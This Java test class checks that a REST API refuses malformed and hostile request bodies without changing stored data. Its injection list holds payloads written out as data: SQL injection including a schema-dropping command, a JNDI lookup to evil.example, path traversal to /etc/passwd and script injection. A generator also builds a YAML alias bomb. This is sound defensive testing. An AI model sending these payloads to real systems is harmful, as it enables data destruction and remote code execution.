package io.modelwright.rest;

import static io.modelwright.rest.Problematic.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import io.modelwright.core.identity.RegistrationMode;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Bodies that nobody sends by accident: each has its documented refusal, tells nothing of the inside, and changes nothing. */
final class HostileBodiesHttpTest {

    private static final String JSON = "application/json";
    private static final String YAML = "application/yaml";

    private static Hexagon hexagon;
    private static EdgeServer server;
    private static Http http;
    private static String token;

    @BeforeAll
    static void serve() {
        hexagon = new Hexagon(RegistrationMode.OPEN);
        server = hexagon.serve(Hexagon.generous(hexagon.keys));
        http = new Http(server.port());
        token = hexagon.signIn("ada@example.org");
        assertThat(http.post("/api/v1/apps")
                        .bearer(token)
                        .json("{\"name\":\"Target\",\"slug\":\"target\"}")
                        .send()
                        .status())
                .isEqualTo(201);
    }

    @AfterAll
    static void close() {
        server.close();
    }

    static Stream<Arguments> bodiesOfAnyRoute() {
        return Stream.of(
                Arguments.of("empty", "", 400, "malformed-json"),
                Arguments.of("cut off", "{\"name\":\"x\"", 400, "malformed-json"),
                Arguments.of("two values", "{}{}", 400, "malformed-json"),
                Arguments.of("a comment", "/* x */{}", 400, "malformed-json"),
                Arguments.of("a key twice", "{\"name\":\"x\",\"name\":\"y\"}", 400, "duplicate-key"),
                Arguments.of("no UTF-8", "\u00ff", 400, "malformed-text"),
                Arguments.of("too deep", "{\"name\":" + "[".repeat(65) + "]".repeat(65) + "}", 400, "too-deep"),
                Arguments.of("depth without end", "[".repeat(500_000), 400, "too-deep"),
                Arguments.of("NUL", "{\"name\":\"a\\u0000b\"}", 422, "forbidden-character"),
                Arguments.of("half a pair", "{\"name\":\"\\ud800\"}", 422, "forbidden-character"),
                Arguments.of("a huge exponent", "{\"name\":1e999999999}", 422, "number-out-of-range"),
                Arguments.of("many digits", "{\"name\":" + "9".repeat(10_000) + "}", 422, "number-out-of-range"),
                Arguments.of("a long text", "{\"name\":\"" + "x".repeat(1_000_001) + "\"}", 422, "text-too-long"));
    }

    static Stream<Arguments> bodiesOfNewApps() {
        return Stream.of(
                Arguments.of("an array", "[]", 422, "invalid"),
                Arguments.of("nothing", "null", 422, "invalid"),
                Arguments.of("a wrong type", "{\"name\":7}", 422, "invalid"),
                Arguments.of("a missing field", "{}", 422, "invalid"),
                Arguments.of("an unknown field", "{\"name\":\"x\",\"owner\":\"eve\"}", 422, "invalid"),
                Arguments.of("a prototype", "{\"name\":\"x\",\"__proto__\":{}}", 422, "invalid"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({"bodiesOfAnyRoute", "bodiesOfNewApps"})
    void newAppsShouldRefuse(String what, String body, int status, String code) {
        String before = apps();

        assertProblem(
                http.post("/api/v1/apps")
                        .bearer(token)
                        .body(JSON, body.getBytes(StandardCharsets.ISO_8859_1))
                        .send(),
                status,
                code);

        assertThat(apps()).isEqualTo(before);
    }

    private static String apps() {
        return http.get("/api/v1/apps?limit=500").bearer(token).send().body();
    }

    static Stream<Arguments> designs() {
        return Stream.of(
                Arguments.of("aliases that multiply", bomb(), 400, "yaml-alias"),
                Arguments.of("a tag", "entities: !!java.net.URL [x]", 400, "yaml-tag"),
                Arguments.of("two documents", "{}\n---\n{}", 400, "malformed-yaml"),
                Arguments.of("tabs", "a:\n\t- b", 400, "malformed-yaml"),
                Arguments.of("a key twice", "entities: []\nentities: []", 400, "duplicate-key"));
    }

    private static String bomb() {
        StringBuilder text = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x]\n");
        for (int level = 1; level < 20; level++) {
            text.append("a%d: &a%d [%s]\n".formatted(level, level, ("*a" + (level - 1) + ",").repeat(7) + "x"));
        }
        return text.toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("designs")
    void draftsShouldRefuseYaml(String what, String body, int status, String code) {
        assertDraftRefuses(YAML, body, status, code);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bodiesOfAnyRoute")
    void draftsShouldRefuseJson(String what, String body, int status, String code) {
        assertDraftRefuses(JSON, body, status, code);
    }

    private static void assertDraftRefuses(String type, String body, int status, String code) {
        Http.Answer before = http.get("/api/v1/apps/target/draft").bearer(token).send();

        assertProblem(
                http.call("PUT", "/api/v1/apps/target/draft")
                        .bearer(token)
                        .header("If-Match", before.header("ETag").orElseThrow())
                        .body(type, body.getBytes(StandardCharsets.ISO_8859_1))
                        .send(),
                status,
                code);

        Http.Answer after = http.get("/api/v1/apps/target/draft").bearer(token).send();
        assertThat(after.body()).isEqualTo(before.body());
        assertThat(after.header("ETag")).isEqualTo(before.header("ETag"));
    }

    static Stream<String> injections() {
        return Stream.of(
                "'; DROP SCHEMA modelwright CASCADE; --",
                "x' OR '1'='1",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}}",
                "../../../etc/passwd",
                "task\\\" ; SELECT pg_sleep(9)",
                "<script>alert(1)</script>",
                "a.b.c().getClass()");
    }

    @ParameterizedTest
    @MethodSource("injections")
    void namesOfElementsShouldBeNamesAndNothingElse(String text) {
        String name = text.replace("\\", "\\\\").replace("\"", "\\\"");

        assertDraftRefuses(JSON, "{\"entities\":[{\"name\":\"" + name + "\",\"fields\":[]}]}", 422, draftCode());
        assertThat(http.post("/api/v1/apps")
                        .bearer(token)
                        .json("{\"name\":\"x\",\"slug\":\"" + name + "\"}")
                        .send()
                        .status())
                .isEqualTo(422);
    }

    /** The code of a draft with findings, learnt from one that surely has some. */
    private static String draftCode() {
        String type = http.call("PUT", "/api/v1/apps/target/draft")
                .bearer(token)
                .header(
                        "If-Match",
                        http.get("/api/v1/apps/target/draft")
                                .bearer(token)
                                .send()
                                .header("ETag")
                                .orElseThrow())
                .json("{\"surely\":1}")
                .send()
                .text("type");
        return type.substring(type.lastIndexOf(':') + 1);
    }

    @Test
    void largeBodiesShouldBeRefused() {
        byte[] large = new byte[1_024 * 1_024 + 1];
        byte[] larger = new byte[8 * 1_024 * 1_024 + 1];

        assertProblem(http.post("/api/v1/apps").bearer(token).body(JSON, large).send(), 413, "body-too-large");
        assertProblem(
                http.call("PUT", "/api/v1/apps/target/draft")
                        .bearer(token)
                        .header("If-Match", "\"1\"")
                        .body(JSON, larger)
                        .send(),
                413,
                "body-too-large");
    }
}
